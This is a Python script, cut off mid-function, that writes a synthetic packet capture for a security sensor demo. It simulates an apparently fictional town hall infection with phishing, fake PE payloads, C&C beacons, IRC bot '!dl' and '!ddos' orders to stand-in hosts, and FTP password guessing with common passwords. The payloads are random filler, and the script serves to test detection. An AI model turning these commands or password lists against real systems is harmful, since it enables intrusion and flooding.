#!/usr/bin/env python3
"""Generate demo/sensor-sakura.pcap: what mamori's packet sensor sees on the mirror
port of Sakura Town hall's core switch on 2026-11-20 (JST), the day of
demo/fortigate-sakura.log and demo/windows-dc.jsonl (scripts/gen_demo.py).

The story, from the wire's side:

  08:31  fukushi07's PC 10.10.5.21 starts the day: DNS, HTTPS, a page over HTTP
  09:05  a mail from outside reaches the town's mail server 10.10.0.26 for
         fukushi07: Japanese subject, an attachment 請求書.pdf.exe (name in RFC 2047
         ISO-2022-JP), links to a bare IP and to the indicator URL of badfiles.xyz
  10:05  the PC resolves cdn.badfiles.xyz and follows the mail's link (the
         FortiGate's antivirus blocks that copy)
  10:07  the document's macro fetches the payload with PowerShell: a Windows PE
         served as invoice.jpg
  10:12  the implant checks in to its C&C 185.220.101.45:8080 (Emotet-style POST,
         random User-Agent), fetches a module over HTTPS from cdn.badfiles.xyz, and
         from 10:40 beacons over TLS to 185.220.101.45:443 with the TLS client of
         Emotet's loader (JA3 51c64c77e60f3980eea90869b68c58a8, no server name)
  11:02  it also joins an IRC channel on 203.0.113.45:8000: the topic orders a
         download (fetched from the bare IP, without a User-Agent), a herder orders a
         flood (!ddos)
  11:20  another PC, 10.10.7.8, resolves a QakBot C&C and tries its address (the
         FortiGate drops it: SYNs only)
  12:40  from 10.10.5.21, password guessing against the file server's FTP (12
         failures) and the monitoring server's SSH (12 short failed sessions)
  13:01  a scanner on the Internet sends Log4Shell in a User-Agent to the DMZ
         web server 172.16.1.10 over HTTP
  14:31  after the domain is taken (see windows-dc.jsonl) the attacker uploads an
         archive from the PC to a file drop site with curl

Deterministic (fixed seed): the same bytes every run.  Everything is written by
hand: the classic pcap format, Ethernet, IPv4 with header checksums, TCP with
handshakes, sequence numbers, acknowledgements and FIN teardown, UDP, checksums.

    python3 scripts/gen_demo_pcap.py            # writes demo/sensor-sakura.pcap
    python3 scripts/gen_demo_pcap.py OUT.pcap
"""
import base64
import io
import os
import random
import struct
import sys
import zipfile

R = random.Random(20261120)
DAY0 = 1795100400  # 2026-11-20T00:00:00+09:00 as Unix seconds


def hm(h, m, s=0.0):
    return DAY0 + h * 3600 + m * 60 + s


# ---------------------------------------------------------------- addresses
PC = "10.10.5.21"          # fukushi07's PC, infected in the morning
PC2 = "10.10.7.8"          # zeimu11's PC (QakBot lookup)
DNS = "10.10.0.53"
MAILSRV = "10.10.0.26"     # the town's mail server (SAKURA-MAIL01)
FTPSRV = "10.10.0.21"      # SAKURA-FS01 also serves FTP to the scanners
SSHSRV = "10.10.0.40"      # SAKURA-MON01, the Linux monitoring server
WEBDMZ = "172.16.1.10"     # www.town-sakura.example.jp
CNC = "185.220.101.45"     # Emotet C&C (indicator)
BADCDN = "198.51.100.77"   # cdn.badfiles.xyz (indicator domain)
IRCSRV = "203.0.113.45"
DROP = "203.0.113.99"      # files.transfer-box.top
QAK = "91.92.109.23"       # QakBot (indicator network)
MTA = "198.51.100.25"      # the sender's mail server
SCANNER = "45.155.205.99"
OTHER_PCS = ["10.10.1.5", "10.10.3.45", "10.10.6.130", "10.10.2.17", "10.10.8.66", "10.10.4.203"]
SITES = [("www.soumu.go.jp", "133.250.241.30"), ("www.e-gov.go.jp", "163.44.181.23"),
         ("www.pref.example.lg.jp", "203.0.113.80"), ("www.nhk.or.jp", "23.40.226.85"),
         ("login.microsoftonline.com", "20.190.141.32"), ("www.yahoo.co.jp", "182.22.24.252")]

CHROME = ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
          "Chrome/130.0.0.0 Safari/537.36")
EDGE = CHROME + " Edg/130.0.0.0"
POWERSHELL = "Mozilla/5.0 (Windows NT; Windows NT 10.0; ja-JP) WindowsPowerShell/5.1.19041.5129"
RANDOM_UA = "hRtkWqpZlmNbvcXe"
CURL = "curl/8.9.1"


def ip_bytes(a):
    return bytes(int(x) for x in a.split("."))


def is_internal(a):
    return a.startswith("10.") or a.startswith("172.16.")


FGT_MAC = bytes.fromhex("00090f090001")   # the FortiGate's internal port


def mac_of(a):
    if not is_internal(a):
        return FGT_MAC
    b = ip_bytes(a)
    return bytes([0x00, 0x15, 0x5d]) + b[1:]


def csum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xffff) + (s >> 16)
    return (~s) & 0xffff


# ---------------------------------------------------------------- pcap
class Capture:
    def __init__(self):
        self.pkts = []
        self.ipid = {}

    def ip(self, t, src, dst, proto, payload):
        ident = self.ipid.get(src, R.randint(1, 60000))
        self.ipid[src] = (ident + 1) & 0xffff
        ttl = 128 if src.startswith("10.10.") and src not in (FTPSRV, SSHSRV, MAILSRV, DNS) else 64
        if not is_internal(src):
            ttl = 52
        hdr = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(payload), ident, 0x4000, ttl, proto, 0,
                          ip_bytes(src), ip_bytes(dst))
        hdr = hdr[:10] + struct.pack("!H", csum(hdr)) + hdr[12:]
        eth = mac_of(dst) + mac_of(src) + b"\x08\x00"
        self.pkts.append((t, len(self.pkts), eth + hdr + payload))

    def write(self, path):
        self.pkts.sort(key=lambda p: (p[0], p[1]))
        with open(path, "wb") as f:
            f.write(struct.pack("<IHHiIII", 0xa1b2c3d4, 2, 4, 0, 0, 65535, 1))
            for t, _, frame in self.pkts:
                sec = int(t)
                usec = int(round((t - sec) * 1e6))
                if usec >= 1000000:
                    sec, usec = sec + 1, usec - 1000000
                f.write(struct.pack("<IIII", sec, usec, len(frame), len(frame)))
                f.write(frame)


CAP = Capture()


def udp(t, src, sport, dst, dport, payload):
    ln = 8 + len(payload)
    pseudo = ip_bytes(src) + ip_bytes(dst) + struct.pack("!BBH", 0, 17, ln)
    h = struct.pack("!HHHH", sport, dport, ln, 0)
    c = csum(pseudo + h + payload) or 0xffff
    CAP.ip(t, src, dst, 17, struct.pack("!HHHH", sport, dport, ln, c) + payload)


FIN, SYN, RST, PSH, ACK = 1, 2, 4, 8, 16


class Tcp:
    """One TCP connection: handshake, data both ways in MSS-sized segments, each
    acknowledged, FIN teardown.  self.t is the connection's clock."""

    MSS = 1460

    def __init__(self, t, cli, cport, srv, sport, rtt=0.012):
        self.t, self.cli, self.cport, self.srv, self.sport, self.rtt = t, cli, cport, srv, sport, rtt
        self.seq = [R.randint(0, 2**32 - 1), R.randint(0, 2**32 - 1)]
        self.win = [64240, 65160]

    def _end(self, d):
        return (self.cli, self.cport, self.srv, self.sport) if d == 0 else (self.srv, self.sport, self.cli, self.cport)

    def seg(self, d, flags, data=b"", opts=b""):
        src, sp, dst, dp = self._end(d)
        ackno = self.seq[1 - d] if flags & ACK else 0
        off = (20 + len(opts)) // 4
        h = struct.pack("!HHIIBBHHH", sp, dp, self.seq[d], ackno, off << 4, flags, self.win[d], 0, 0) + opts
        pseudo = ip_bytes(src) + ip_bytes(dst) + struct.pack("!BBH", 0, 6, len(h) + len(data))
        c = csum(pseudo + h + data)
        h = h[:16] + struct.pack("!H", c) + h[18:]
        CAP.ip(self.t, src, dst, 6, h + data)
        self.seq[d] = (self.seq[d] + len(data) + (1 if flags & (SYN | FIN) else 0)) & 0xffffffff

    def open(self):
        mss = struct.pack("!BBH", 2, 4, self.MSS) + b"\x01\x03\x03\x08\x01\x01\x04\x02"
        self.seg(0, SYN, opts=mss)
        self.t += self.rtt / 2
        self.seg(1, SYN | ACK, opts=mss)
        self.t += self.rtt / 2
        self.seg(0, ACK)
        self.t += 0.0004
        return self

    def send(self, d, data, after=0.0):
        """d: 0 client to server, 1 back.  after: think time before sending."""
        self.t += after
        for i in range(0, len(data), self.MSS):
            part = data[i:i + self.MSS]
            last = i + self.MSS >= len(data)
            self.seg(d, ACK | (PSH if last else 0), part)
            self.t += 0.00012
            if not last and (i // self.MSS) % 2 == 1:   # delayed ACK every second segment
                self.t += self.rtt / 2
                self.seg(1 - d, ACK)
        self.t += self.rtt / 2
        self.seg(1 - d, ACK)
        self.t += 0.0003
        return self

    def close(self, d=0, after=0.0):
        self.t += after
        self.seg(d, FIN | ACK)
        self.t += self.rtt / 2
        self.seg(1 - d, FIN | ACK)
        self.t += self.rtt / 2
        self.seg(d, ACK)
        return self

    def syn_attempts(self, n, gaps):
        """SYNs nobody answers (dropped by the firewall), retransmitted."""
        mss = struct.pack("!BBH", 2, 4, self.MSS) + b"\x01\x03\x03\x08\x01\x01\x04\x02"
        for i in range(n):
            self.seg(0, SYN, opts=mss)
            self.seq[0] = (self.seq[0] - 1) & 0xffffffff
            self.t += gaps[i] if i < len(gaps) else gaps[-1]


def eport():
    return R.randint(49152, 65000)


# ---------------------------------------------------------------- DNS
def dns_name(n):
    out = b""
    for label in n.rstrip(".").split("."):
        out += bytes([len(label)]) + label.encode()
    return out + b"\0"


def dns(t, cli, name, answers, qtype=1, xid=None, server=DNS, rcode=0):
    xid = R.randint(1, 65535) if xid is None else xid
    sport = eport()
    q = struct.pack("!HHHHHH", xid, 0x0100, 1, 0, 0, 0) + dns_name(name) + struct.pack("!HH", qtype, 1)
    udp(t, cli, sport, server, 53, q)
    body = b""
    for a in answers:
        body += b"\xc0\x0c" + struct.pack("!HHIH", 1, 1, 300, 4) + ip_bytes(a)
    r = (struct.pack("!HHHHHH", xid, 0x8180 | rcode, 1, len(answers), 0, 0) + dns_name(name) +
         struct.pack("!HH", qtype, 1) + body)
    udp(t + 0.0021 + R.random() * 0.01, server, 53, cli, sport, r)


# ---------------------------------------------------------------- HTTP
def http(t, cli, srv, host, method, path, ua, resp_type, resp_body, status="200 OK", req_headers=(),
         req_body=b"", port=80, extra_resp=(), server="nginx"):
    c = Tcp(t, cli, eport(), srv, port, rtt=0.03 if not is_internal(srv) else 0.001).open()
    h = [f"{method} {path} HTTP/1.1", f"Host: {host}" + (f":{port}" if port != 80 else "")]
    if ua is not None:
        h.append(f"User-Agent: {ua}")
    h += ["Accept: */*", "Accept-Language: ja-JP", "Connection: close"]
    h += list(req_headers)
    if req_body:
        h.append(f"Content-Length: {len(req_body)}")
    c.send(0, ("\r\n".join(h) + "\r\n\r\n").encode() + req_body)
    rh = [f"HTTP/1.1 {status}", f"Server: {server}", "Date: Fri, 20 Nov 2026 00:00:00 GMT",
          f"Content-Type: {resp_type}", f"Content-Length: {len(resp_body)}", "Connection: close"]
    rh += list(extra_resp)
    c.send(1, ("\r\n".join(rh) + "\r\n\r\n").encode() + resp_body, after=0.04)
    c.close(1, after=0.001)
    return c.t


# ---------------------------------------------------------------- TLS
def tls_client_hello(sni, ciphers, alpn=(b"h2", b"http/1.1")):
    rnd = bytes(R.getrandbits(8) for _ in range(32))
    sid = bytes(R.getrandbits(8) for _ in range(32))
    ext = b""
    name = sni.encode()
    sn = struct.pack("!BH", 0, len(name)) + name
    ext += struct.pack("!HH", 0, len(sn) + 2) + struct.pack("!H", len(sn)) + sn
    ext += struct.pack("!HH", 23, 0)                                  # extended master secret
    ext += struct.pack("!HHB", 0xff01, 1, 0)                          # renegotiation info
    groups = struct.pack("!HHHH", 6, 0x001d, 0x0017, 0x0018)
    ext += struct.pack("!HH", 10, len(groups)) + groups
    ext += struct.pack("!HHBB", 11, 2, 1, 0)                          # ec point formats
    ext += struct.pack("!HH", 35, 0)                                  # session ticket
    if alpn:
        al = b"".join(bytes([len(a)]) + a for a in alpn)
        ext += struct.pack("!HHH", 16, len(al) + 2, len(al)) + al
    sig = struct.pack("!H8H", 16, 0x0403, 0x0804, 0x0401, 0x0503, 0x0805, 0x0501, 0x0806, 0x0601)
    ext += struct.pack("!HH", 13, len(sig)) + sig
    ks = bytes(R.getrandbits(8) for _ in range(32))
    kse = struct.pack("!HHH", len(ks) + 4, 0x001d, len(ks)) + ks
    ext += struct.pack("!HH", 51, len(kse)) + kse
    ext += struct.pack("!HHBHH", 43, 5, 4, 0x0304, 0x0303)          # supported versions
    ext += struct.pack("!HHBB", 45, 2, 1, 1)                          # psk modes
    cs = struct.pack("!%dH" % len(ciphers), *ciphers)
    body = (struct.pack("!H", 0x0303) + rnd + bytes([len(sid)]) + sid + struct.pack("!H", len(cs)) + cs +
            b"\x01\x00" + struct.pack("!H", len(ext)) + ext)
    hs = b"\x01" + struct.pack("!I", len(body))[1:] + body
    return b"\x16\x03\x01" + struct.pack("!H", len(hs)) + hs, sid


def tls_server_hello(sid, cipher=0x1301):
    rnd = bytes(R.getrandbits(8) for _ in range(32))
    ks = bytes(R.getrandbits(8) for _ in range(32))
    ext = struct.pack("!HHH", 43, 2, 0x0304)
    ext += struct.pack("!HHHH", 51, len(ks) + 4, 0x001d, len(ks)) + ks
    body = (struct.pack("!H", 0x0303) + rnd + bytes([len(sid)]) + sid + struct.pack("!HB", cipher, 0) +
            struct.pack("!H", len(ext)) + ext)
    hs = b"\x02" + struct.pack("!I", len(body))[1:] + body
    rec = b"\x16\x03\x03" + struct.pack("!H", len(hs)) + hs
    rec += b"\x14\x03\x03\x00\x01\x01"                               # change cipher spec (compat)
    enc = bytes(R.getrandbits(8) for _ in range(R.randint(800, 1200)))
    rec += b"\x17\x03\x03" + struct.pack("!H", len(enc)) + enc      # encrypted extensions, cert...
    return rec


CHROME_CIPHERS = [0x1301, 0x1302, 0x1303, 0xc02b, 0xc02f, 0xc02c, 0xc030, 0xcca9, 0xcca8, 0xc013,
                  0xc014, 0x009c, 0x009d, 0x002f, 0x0035]
IMPLANT_CIPHERS = [0xc02c, 0xc02b, 0xc030, 0xc02f, 0xc024, 0xc023, 0xc028, 0xc027, 0xc00a, 0xc009,
                   0xc014, 0xc013, 0x009d, 0x009c, 0x003d, 0x003c, 0x0035, 0x002f, 0x000a]


def tls(t, cli, srv, sni, ciphers=CHROME_CIPHERS, alpn=(b"h2", b"http/1.1"), up=600, down=4000, port=443):
    c = Tcp(t, cli, eport(), srv, port, rtt=0.03).open()
    ch, sid = tls_client_hello(sni, ciphers, alpn)
    c.send(0, ch)
    c.send(1, tls_server_hello(sid), after=0.03)
    fin = b"\x14\x03\x03\x00\x01\x01" + b"\x17\x03\x03\x00\x35" + bytes(R.getrandbits(8) for _ in range(0x35))
    c.send(0, fin, after=0.002)
    app = bytes(R.getrandbits(8) for _ in range(up))
    c.send(0, b"\x17\x03\x03" + struct.pack("!H", len(app)) + app, after=0.001)
    app = bytes(R.getrandbits(8) for _ in range(down))
    c.send(1, b"\x17\x03\x03" + struct.pack("!H", len(app)) + app, after=0.05)
    c.close(0, after=0.5)


def tls12_loader_hello():
    """The ClientHello of the Emotet loader in nDPI's emotet.pcap: TLS 1.2, no
    server name, no ALPN; its JA3 is 51c64c77e60f3980eea90869b68c58a8."""
    rnd = bytes(R.getrandbits(8) for _ in range(32))
    groups = struct.pack("!HHHH", 6, 0x001d, 0x0017, 0x0018)
    ext = struct.pack("!HH", 10, len(groups)) + groups
    ext += struct.pack("!HHBB", 11, 2, 1, 0)
    sig = struct.pack("!H9H", 18, 0x0401, 0x0501, 0x0201, 0x0403, 0x0503, 0x0203, 0x0402, 0x0202, 0x0601)
    ext += struct.pack("!HH", 13, len(sig)) + sig
    ext += struct.pack("!HH", 35, 0)
    ext += struct.pack("!HH", 23, 0)
    ext += struct.pack("!HHB", 0xff01, 1, 0)
    cs = struct.pack("!%dH" % len(IMPLANT_CIPHERS), *IMPLANT_CIPHERS)
    body = (struct.pack("!H", 0x0303) + rnd + b"\x00" + struct.pack("!H", len(cs)) + cs + b"\x01\x00" +
            struct.pack("!H", len(ext)) + ext)
    hs = b"\x01" + struct.pack("!I", len(body))[1:] + body
    return b"\x16\x03\x01" + struct.pack("!H", len(hs)) + hs


def tls12_server_hello():
    rnd = bytes(R.getrandbits(8) for _ in range(32))
    sid = bytes(R.getrandbits(8) for _ in range(32))
    ext = struct.pack("!HHB", 0xff01, 1, 0) + struct.pack("!HHBB", 11, 2, 1, 0) + struct.pack("!HH", 23, 0)
    body = (struct.pack("!H", 0x0303) + rnd + bytes([len(sid)]) + sid + struct.pack("!HB", 0xc030, 0) +
            struct.pack("!H", len(ext)) + ext)
    hs = b"\x02" + struct.pack("!I", len(body))[1:] + body
    hs += b"\x0e\x00\x00\x00"                                         # server hello done
    return b"\x16\x03\x03" + struct.pack("!H", len(hs)) + hs


def tls_loader(t, cli, srv, up, down, port=443):
    c = Tcp(t, cli, eport(), srv, port, rtt=0.03).open()
    c.send(0, tls12_loader_hello())
    c.send(1, tls12_server_hello(), after=0.03)
    kx = bytes(R.getrandbits(8) for _ in range(65))
    fin = b"\x16\x03\x03" + struct.pack("!H", 4 + 1 + len(kx)) + b"\x10" + struct.pack("!I", 1 + len(kx))[1:] + \
        bytes([len(kx)]) + kx
    fin += b"\x14\x03\x03\x00\x01\x01" + b"\x16\x03\x03\x00\x28" + bytes(R.getrandbits(8) for _ in range(0x28))
    c.send(0, fin, after=0.002)
    c.send(1, b"\x14\x03\x03\x00\x01\x01" + b"\x16\x03\x03\x00\x28" + bytes(R.getrandbits(8) for _ in range(0x28)),
           after=0.03)
    app = bytes(R.getrandbits(8) for _ in range(up))
    c.send(0, b"\x17\x03\x03" + struct.pack("!H", len(app)) + app, after=0.001)
    app = bytes(R.getrandbits(8) for _ in range(down))
    c.send(1, b"\x17\x03\x03" + struct.pack("!H", len(app)) + app, after=0.08)
    c.close(0, after=0.5)


# ---------------------------------------------------------------- payloads
def fake_pe(size, seed):
    """A PE32 GUI executable header (enough for libmagic) followed by noise."""
    r = random.Random(seed)
    mz = bytearray(0x80)
    mz[0:2] = b"MZ"
    mz[2:4] = struct.pack("<H", 0x90)
    mz[0x3c:0x40] = struct.pack("<I", 0x80)
    stub = b"This program cannot be run in DOS mode.\r\r\n$"
    mz[0x4e:0x4e + len(stub)] = stub
    coff = b"PE\0\0" + struct.pack("<HHIIIHH", 0x14c, 3, 1795100000, 0, 0, 0xe0, 0x0102)
    opt = bytearray(0xe0)
    opt[0:2] = struct.pack("<H", 0x10b)
    opt[16:20] = struct.pack("<I", 0x1000)      # entry point
    opt[28:32] = struct.pack("<I", 0x400000)    # image base
    opt[32:36] = struct.pack("<I", 0x1000)
    opt[36:40] = struct.pack("<I", 0x200)
    opt[68:70] = struct.pack("<H", 2)           # Windows GUI
    opt[92:96] = struct.pack("<I", 16)
    sect = b""
    for i, n in enumerate((b".text", b".rdata", b".data")):
        sect += n.ljust(8, b"\0") + struct.pack("<IIIIIIHHI", 0x1000, 0x1000 * (i + 1), 0x1000, 0x400 + 0x1000 * i,
                                                0, 0, 0, 0, 0x60000020 if i == 0 else 0x40000040)
    d = bytes(mz) + coff + bytes(opt) + sect
    d += bytes(0x400 - len(d))
    d += bytes(r.getrandbits(8) for _ in range(size - len(d)))
    return d


def zip_archive(seed):
    r = random.Random(seed)
    b = io.BytesIO()
    when = (2026, 11, 20, 14, 24, 52)     # fixed: zipfile would stamp the current time
    with zipfile.ZipFile(b, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr(zipfile.ZipInfo("ntds/ntds.dit.txt", when), "\n".join(
            f"SAKURA\\user{i:04d}:{1100 + i}:aad3b435b51404eeaad3b435b51404ee:"
            f"{r.getrandbits(128):032x}:::" for i in range(260)), zipfile.ZIP_DEFLATED)
        z.writestr(zipfile.ZipInfo("ntds/SYSTEM.hive", when), bytes(r.getrandbits(8) for _ in range(6000)),
                   zipfile.ZIP_DEFLATED)
    return b.getvalue()


def b64lines(data):
    s = base64.b64encode(data).decode()
    return "\r\n".join(s[i:i + 76] for i in range(0, len(s), 76))


def mime_word(text):
    return "=?ISO-2022-JP?B?" + base64.b64encode(text.encode("iso2022_jp")).decode() + "?="


# ================================================================ the day
# -- background: the town's PCs browse, resolve, fetch over the day ----------------
for i in range(24):
    t = hm(8, 20) + R.random() * 9.5 * 3600
    pc = R.choice(OTHER_PCS)
    name, addr = R.choice(SITES)
    dns(t, pc, name, [addr])
    if R.random() < 0.7:
        tls(t + 0.05, pc, addr, name, up=R.randint(300, 800), down=R.randint(800, 2500))
    else:
        page = (b"<!DOCTYPE html><html lang=\"ja\"><head><meta charset=\"utf-8\"><title>news</title></head><body>" +
                bytes(R.choice(b"abcdefghij ") for _ in range(R.randint(600, 1500))) + b"</body></html>")
        http(t + 0.05, pc, addr, name, "GET", R.choice(["/", "/news/", "/index.html"]), EDGE,
             "text/html; charset=utf-8", page)

# -- 08:31 fukushi07's PC starts the day ---------------------------------------------
t = hm(8, 31, 5.2)
dns(t, PC, "www.soumu.go.jp", ["133.250.241.30"])
tls(t + 0.06, PC, "133.250.241.30", "www.soumu.go.jp", up=900, down=5000)
t = hm(8, 32, 10.4)
dns(t, PC, "www.pref.example.lg.jp", ["203.0.113.80"])
http(t + 0.04, PC, "203.0.113.80", "www.pref.example.lg.jp", "GET", "/kurashi/", CHROME,
     "text/html; charset=utf-8", b"<!DOCTYPE html><html lang=\"ja\"><body>" + b"x" * 2400 + b"</body></html>")

# -- 09:05 the mail ---------------------------------------------------------------------
t = hm(9, 5, 12.0)
att = fake_pe(12288, "attachment")
subject = "【請求書】11月分ご請求のお知らせ"
body = ("福祉課 ご担当者様\r\n\r\n"
        "いつもお世話になっております。株式会社サクラ物産 経理部です。\r\n"
        "11月分の請求書を添付にてお送りいたします。\r\n"
        "添付ファイルが開けない場合は、下記よりダウンロードしてください。\r\n\r\n"
        "http://198.51.100.77/inv/2026-11/view.php?id=8812\r\n"
        "http://cdn.badfiles.xyz/dl/invoice_2026-11.doc\r\n\r\n"
        "よろしくお願いいたします。\r\n")
boundary = "----=_NextPart_000_0012_01DB3A5C.9F2E1B40"
msg = (f"Received: from mta.sakura-bussan.example ([{MTA}]) by mail.town-sakura.example.jp\r\n"
       f"From: {mime_word('サクラ物産 経理部')} <keiri@sakura-bussan.example>\r\n"
       "To: fukushi07@town-sakura.example.jp\r\n"
       f"Subject: {mime_word(subject)}\r\n"
       "Date: Fri, 20 Nov 2026 09:05:08 +0900\r\n"
       "Message-ID: <20261120090508.4F2A1@sakura-bussan.example>\r\n"
       "MIME-Version: 1.0\r\n"
       "X-Mailer: Microsoft Outlook 16.0\r\n"
       f"Content-Type: multipart/mixed; boundary=\"{boundary}\"\r\n"
       "\r\n"
       "This is a multi-part message in MIME format.\r\n"
       "\r\n"
       f"--{boundary}\r\n"
       "Content-Type: text/plain; charset=\"ISO-2022-JP\"\r\n"
       "Content-Transfer-Encoding: 7bit\r\n"
       "\r\n").encode()
msg += body.encode("iso2022_jp")
fname = mime_word("請求書.pdf.exe")
msg += (f"\r\n--{boundary}\r\n"
        f"Content-Type: application/octet-stream; name=\"{fname}\"\r\n"
        "Content-Transfer-Encoding: base64\r\n"
        f"Content-Disposition: attachment; filename=\"{fname}\"\r\n"
        "\r\n" + b64lines(att) + "\r\n"
        f"--{boundary}--\r\n").encode()
c = Tcp(t, MTA, eport(), MAILSRV, 25, rtt=0.02).open()
c.send(1, b"220 mail.town-sakura.example.jp ESMTP Postfix\r\n", after=0.01)
c.send(0, b"EHLO mta.sakura-bussan.example\r\n", after=0.02)
c.send(1, b"250-mail.town-sakura.example.jp\r\n250-PIPELINING\r\n250-SIZE 20480000\r\n250-8BITMIME\r\n"
          b"250 SMTPUTF8\r\n", after=0.001)
c.send(0, b"MAIL FROM:<keiri@sakura-bussan.example> SIZE=%d\r\n" % len(msg), after=0.02)
c.send(1, b"250 2.1.0 Ok\r\n", after=0.001)
c.send(0, b"RCPT TO:<fukushi07@town-sakura.example.jp>\r\n", after=0.02)
c.send(1, b"250 2.1.5 Ok\r\n", after=0.001)
c.send(0, b"DATA\r\n", after=0.02)
c.send(1, b"354 End data with <CR><LF>.<CR><LF>\r\n", after=0.001)
c.send(0, msg + b"\r\n.\r\n", after=0.02)
c.send(1, b"250 2.0.0 Ok: queued as 4Mx9Tq2B7Kz3\r\n", after=0.05)
c.send(0, b"QUIT\r\n", after=0.02)
c.send(1, b"221 2.0.0 Bye\r\n", after=0.001)
c.close(1)

# -- 10:05 the link, then the payload ------------------------------------------------
t = hm(10, 5, 30.1)
dns(t, PC, "cdn.badfiles.xyz", [BADCDN])
block = ("<html><head><title>High Security Alert</title></head><body><h1>High Security Alert</h1>"
         "<p>You are not permitted to download the file \"invoice_2026-11.doc\" because it is infected with "
         "the virus \"W97M/Emotet.AB!tr\".</p><p>URL: http://cdn.badfiles.xyz/dl/invoice_2026-11.doc</p>"
         "</body></html>").encode()
http(t + 3.2, PC, BADCDN, "cdn.badfiles.xyz", "GET", "/dl/invoice_2026-11.doc", CHROME,
     "text/html; charset=utf-8", block, status="403 Forbidden", server="FortiGate")
t = hm(10, 7, 41.6)
payload = fake_pe(24576, "payload")
http(t, PC, BADCDN, "cdn.badfiles.xyz", "GET", "/dl/invoice.jpg", POWERSHELL, "image/jpeg", payload,
     server="nginx/1.18.0")

# -- 10:12 C&C check-in (Emotet-style POST, random User-Agent) and TLS beacons ----------
t = hm(10, 12, 15.3)
beacon = bytes(R.getrandbits(8) for _ in range(372))
http(t, PC, CNC, CNC, "POST", "/Kc4LaE/yUv1qFbtc/", RANDOM_UA, "application/octet-stream",
     bytes(R.getrandbits(8) for _ in range(148)), port=8080,
     req_headers=("Content-Type: application/octet-stream",), req_body=beacon)
# the implant fetches a module over HTTPS from the distribution site...
t = hm(10, 20, 41.0)
dns(t, PC, "cdn.badfiles.xyz", [BADCDN])
tls(t + 0.05, PC, BADCDN, "cdn.badfiles.xyz", ciphers=IMPLANT_CIPHERS, alpn=(), up=420, down=6000)
# ...and from 10:40 beacons to the C&C every five minutes with the loader's TLS client
for i in range(4):
    tls_loader(hm(10, 40, 2.0) + i * 300 + R.random() * 5, PC, CNC, up=R.randint(600, 900), down=R.randint(300, 500))

# -- 11:02 IRC on port 8000 ------------------------------------------------------------
t = hm(11, 2, 7.5)
nick = "JPN|x64|5021"
c = Tcp(t, PC, eport(), IRCSRV, 8000, rtt=0.04).open()
c.send(0, f"NICK {nick}\r\nUSER sk5021 0 0 :{nick}\r\n".encode())
c.send(1, b":irc.srv NOTICE AUTH :*** Looking up your hostname...\r\n"
          b":irc.srv NOTICE AUTH :*** Couldn't resolve your hostname; using your IP address instead\r\n", after=0.05)
c.send(1, (f":irc.srv 001 {nick} :Welcome to the Internet Relay Network {nick}\r\n"
           f":irc.srv 002 {nick} :Your host is irc.srv, running version Unreal3.2.10\r\n"
           f":irc.srv 376 {nick} :End of /MOTD command.\r\n").encode(), after=0.3)
c.send(0, b"JOIN #sk0 s4kur4\r\n", after=0.2)
c.send(1, (f":{nick}!sk5021@203.0.113.10 JOIN :#sk0\r\n"
           f":irc.srv 332 {nick} #sk0 :!dl http://198.51.100.77/a/kb5031.exe kb.exe\r\n"
           f":irc.srv 333 {nick} #sk0 h3rd3r 1795143600\r\n"
           f":irc.srv 353 {nick} @ #sk0 :{nick} @h3rd3r JPN|x64|7733 USA|x64|0192\r\n"
           f":irc.srv 366 {nick} #sk0 :End of /NAMES list.\r\n").encode(), after=0.05)
c.send(0, b"PRIVMSG #sk0 :[DL] downloaded kb.exe (16384 bytes), executing\r\n", after=2.4)
c.send(1, b"PING :irc.srv\r\n", after=90.0)
c.send(0, b"PONG :irc.srv\r\n", after=0.01)
c.send(1, b":h3rd3r!h@198.18.7.9 PRIVMSG #sk0 :!ddos udp 203.0.113.80 80 600\r\n", after=41.0)
c.send(0, b"PRIVMSG #sk0 :[UDP] flooding 203.0.113.80:80 for 600 seconds\r\n", after=0.3)
c.send(1, b"PING :irc.srv\r\n", after=90.0)
c.send(0, b"PONG :irc.srv\r\n", after=0.01)
c.send(0, b"QUIT :restart\r\n", after=200.0)
c.send(1, b"ERROR :Closing Link: 203.0.113.10 (Quit: restart)\r\n", after=0.04)
c.close(1)

# the topic's order: the bot downloads kb5031.exe from the bare address, no User-Agent
http(hm(11, 2, 8.9), PC, BADCDN, BADCDN, "GET", "/a/kb5031.exe", None, "application/octet-stream",
     fake_pe(16384, "bot"), server="nginx/1.18.0")

# -- 11:20 another PC and QakBot ---------------------------------------------------------
t = hm(11, 20, 45.3)
dns(t, PC2, "update.qakbot-c2.duckdns.org", ["208.91.112.55"], xid=4321)
for i in range(4):
    Tcp(hm(11, 21, i * 15.0), PC2, eport(), QAK, 8443).syn_attempts(3, [1.0, 2.0])

# -- 12:40 password guessing from the infected PC -------------------------------------
t = hm(12, 40, 3.0)
users = ["administrator", "admin", "ftpuser", "scan", "fukushi", "soumu"]
pwds = ["Sakura2026", "password", "P@ssw0rd", "sakura", "admin123", "Welcome1"]
fails = 0
while fails < 12:
    c = Tcp(t, PC, eport(), FTPSRV, 21, rtt=0.0008).open()
    c.send(1, b"220 SAKURA-FS01 Microsoft FTP Service\r\n", after=0.002)
    for k in range(3):
        if fails == 12:
            break
        u = users[fails % len(users)]
        c.send(0, f"USER {u}\r\n".encode(), after=0.05)
        c.send(1, b"331 Password required\r\n", after=0.001)
        c.send(0, f"PASS {pwds[fails % len(pwds)]}\r\n".encode(), after=0.03)
        c.send(1, b"530 User cannot log in.\r\n", after=0.4)
        fails += 1
    c.send(0, b"QUIT\r\n", after=0.02)
    c.send(1, b"221 Goodbye.\r\n", after=0.001)
    c.close(1)
    t = c.t + 0.8 + R.random()


def ssh_packet(payload, block=8):
    pad = block - (len(payload) + 5) % block
    if pad < 4:
        pad += block
    return struct.pack("!IB", len(payload) + pad + 1, pad) + payload + bytes(R.getrandbits(8) for _ in range(pad))


def ssh_namelist(names):
    s = ",".join(names).encode()
    return struct.pack("!I", len(s)) + s


def ssh_kexinit(kex, hostkey, ciphers, macs):
    p = b"\x14" + bytes(R.getrandbits(8) for _ in range(16))
    for nl in (kex, hostkey, ciphers, ciphers, macs, macs, ["none"], ["none"], [], []):
        p += ssh_namelist(nl)
    return ssh_packet(p + b"\x00" + b"\x00\x00\x00\x00")


def ssh_str(b):
